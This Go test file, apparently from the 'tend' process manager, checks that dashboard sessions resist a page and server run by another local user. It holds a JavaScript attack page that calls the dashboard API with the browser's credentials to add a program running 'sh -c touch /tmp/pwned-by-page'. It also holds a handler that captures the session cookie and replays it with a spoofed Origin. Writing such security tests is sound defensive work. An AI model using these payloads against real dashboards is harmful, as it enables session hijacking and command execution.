package dashboard_test

// Dashboard sessions bound to their page (docs/trust.md#dashboard-sessions),
// in Chromium, as another local user would try it: a web server of theirs
// on another port of 127.0.0.1, visited by the logged-in browser, receives
// the dashboard's cookie (browsers send a cookie to every port of a host)
// and its page calls the dashboard's API with the browser's credentials.
// Neither its page nor its server gets anywhere; the real dashboard page,
// logged in through the real login flow, works, and may not add programs.

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"github.com/tend-sh/tend/internal/testutil"
)

// attackPage is the other user's page; %s is the dashboard's base URL. It
// tries the API with the browser's credentials, reads what it can, and
// reports to its own server.
const attackPage = `<!doctype html><title>cats</title><script>
(async () => {
  const base = %q;
  const out = {storage: sessionStorage.getItem('tend_page'), results: {}};
  const tries = {
    status: () => fetch(base + '/v1/status', {credentials: 'include'}),
    add: () => fetch(base + '/v1/programs', {method: 'POST', credentials: 'include', mode: 'no-cors',
      headers: {'Content-Type': 'text/plain'}, body: JSON.stringify({name: 'pwn', command: ['sh', '-c', 'touch /tmp/pwned-by-page']})}),
    restart: () => fetch(base + '/v1/programs/sleeper:1/restart', {method: 'POST', credentials: 'include', mode: 'no-cors'}),
  };
  for (const [k, f] of Object.entries(tries)) {
    try { const r = await f(); out.results[k] = r.type + ' ' + r.status + ' ' + (r.type === 'opaque' ? '' : await r.text()); }
    catch (e) { out.results[k] = 'refused: ' + e.message; }
  }
  await fetch('/report', {method: 'POST', body: JSON.stringify(out)});
  document.title = 'done';
})();
</script>`

func TestDashboardSessionBoundToPage(t *testing.T) {
	if _, err := os.Stat(chromiumPath); err != nil {
		testutil.Missing(t, "no browser at %s (CI installs Debian's chromium package: apt-get install chromium)", chromiumPath)
	}
	if testing.Short() {
		t.Skip("builds tend and starts a browser")
	}
	d := startTend(t)
	ctx, _, _ := newBrowser(t)

	// The real login flow: the code typed into the login page.
	code := d.loginCode(t)
	if err := chromedp.Do(ctx,
		chromedp.Navigate(d.base+"/login"),
		chromedp.SendKeys(`input[name=code]`, code+kb.Enter),
	); err != nil {
		t.Fatal(err)
	}
	waitJS(t, ctx, "the dashboard's rows", `!!document.querySelector('#rows [data-id="sleeper:1"]')`)
	before, err := d.client.Status("sleeper:1")
	if err != nil {
		t.Fatal(err)
	}

	// The other user's server on another port.
	var mu sync.Mutex
	var cookie string
	report := make(chan map[string]any, 1)
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/":
			if c, err := r.Cookie("tend_session"); err == nil {
				mu.Lock()
				cookie = c.Value
				mu.Unlock()
			}
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, attackPage, d.base)
		case "/report":
			var m map[string]any
			json.NewDecoder(r.Body).Decode(&m)
			select {
			case report <- m:
			default:
			}
		}
	}))
	defer evil.Close()
	if err := chromedp.Do(ctx, chromedp.Navigate(evil.URL+"/")); err != nil {
		t.Fatal(err)
	}
	waitJS(t, ctx, "the other page's tries", `document.title === 'done'`)
	got := <-report
	t.Logf("the other page got: %v", got)
	if got["storage"] != nil {
		t.Errorf("the other port's page read the page secret: %v", got["storage"])
	}
	results, _ := got["results"].(map[string]any)
	if s, _ := results["status"].(string); !strings.HasPrefix(s, "refused") {
		t.Errorf("the other page read /v1/status: %q", s)
	}

	// Its server has the cookie, as browsers send it to every port: with
	// it alone, whatever Origin it claims, the API refuses.
	mu.Lock()
	stolen := cookie
	mu.Unlock()
	if stolen == "" {
		t.Log("this browser did not send the dashboard's cookie to another port")
	} else {
		for _, req := range []struct{ method, path, body string }{
			{"GET", "/v1/status", ""},
			{"POST", "/v1/programs", `{"name": "pwn", "command": ["sh", "-c", "touch /tmp/pwned-by-cookie"]}`},
			{"POST", "/v1/programs/sleeper:1/restart", ""},
		} {
			r, _ := http.NewRequest(req.method, d.base+req.path, strings.NewReader(req.body))
			r.Header.Set("Cookie", "tend_session="+stolen)
			r.Header.Set("Origin", d.base)
			r.Header.Set("Content-Type", "application/json")
			resp, err := http.DefaultClient.Do(r)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != http.StatusUnauthorized {
				t.Errorf("%s %s with the stolen cookie: %d, want 401", req.method, req.path, resp.StatusCode)
			}
		}
	}
	if d.added(t) {
		t.Fatal("a program was added through the browser's session")
	}
	if st, err := d.client.Status("sleeper:1"); err != nil || st.Run != before.Run {
		t.Errorf("sleeper:1 was restarted from another page (run %d, was %d; %v)", st.Run, before.Run, err)
	}

	// Back on the dashboard (the tab keeps its secret across navigations),
	// the page works, and its session may not add a program.
	if err := chromedp.Do(ctx, chromedp.Navigate(d.base+"/")); err != nil {
		t.Fatal(err)
	}
	waitJS(t, ctx, "the dashboard again", `!!document.querySelector('#rows [data-id="sleeper:1"]') && document.getElementById('conn').dataset.state === 'live'`)
	status, err := chromedp.Run(ctx, chromedp.Evaluate[int](`fetch('/v1/programs', {method: 'POST', credentials: 'same-origin',
		headers: {'Content-Type': 'application/json', 'X-Tend-Page': sessionStorage.getItem('tend_page')},
		body: JSON.stringify({name: 'pwn', command: ['true']})}).then(r => r.status)`, chromedp.EvalAwaitPromise))
	if err != nil {
		t.Fatal(err)
	}
	if status != http.StatusForbidden {
		t.Errorf("the dashboard's session adding a program: %d, want 403", status)
	}
	if d.added(t) {
		t.Fatal("the dashboard's session added a program")
	}

	// A new tab has no secret: it is sent to log in.
	tab, cancel := chromedp.NewContext(ctx)
	defer cancel()
	if err := chromedp.Do(tab, chromedp.Navigate(d.base+"/")); err != nil {
		t.Fatal(err)
	}
	waitJS(t, tab, "a new tab to be sent to the login page", `location.pathname === '/login' && !!document.querySelector('input[name=code]')`)

	// The logout button ends the session: the API refuses the old secret.
	secret, err := chromedp.Run(ctx, chromedp.Evaluate[string](`sessionStorage.getItem('tend_page')`))
	if err != nil {
		t.Fatal(err)
	}
	if err := chromedp.Do(ctx, chromedp.Click(chromedp.ID("logout"))); err != nil {
		t.Fatal(err)
	}
	waitJS(t, ctx, "the login page after logout", `location.pathname === '/login' && sessionStorage.getItem('tend_page') === null`)
	r, _ := http.NewRequest("GET", d.base+"/v1/status", nil)
	r.Header.Set("Cookie", "tend_session="+stolen)
	r.Header.Set("X-Tend-Page", secret)
	resp, err := http.DefaultClient.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("the page's secret after logout: %d, want 401", resp.StatusCode)
	}
}

// added reports whether the daemon has a program "pwn".
func (d *tend) added(t *testing.T) bool {
	t.Helper()
	list, err := d.client.List(false)
	if err != nil {
		t.Fatal(err)
	}
	for _, st := range list {
		if strings.HasPrefix(st.ID, "pwn:") {
			return true
		}
	}
	return false
}
